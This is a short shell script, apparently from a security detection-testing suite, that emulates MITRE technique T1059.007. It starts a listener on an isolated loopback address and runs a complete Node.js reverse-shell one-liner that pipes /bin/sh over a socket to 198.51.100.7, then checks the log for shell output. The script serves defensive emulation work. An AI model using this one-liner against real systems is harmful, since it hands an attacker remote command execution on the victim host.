# technique: T1059.007
# tactic: execution
# name: Node.js one-liner reverse shell (net.Socket piped to /bin/sh) to a listener
# expect: detected
. "$EMULATION_LIB"
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
need node python3 ip
loopback_up
# The "attacker" address lives on this namespace's private loopback, so nothing leaves the box.
ip addr add 198.51.100.7/32 dev lo

# Attacker side: a one-shot listener on the private loopback (lib.sh).
attacker_listener

# Victim side: the common JavaScript reverse shell (revshells.com "node.js").
node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect('"$port"',"198.51.100.7",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();' || true

wait $listener || true
grep -q 'uid=' session.log
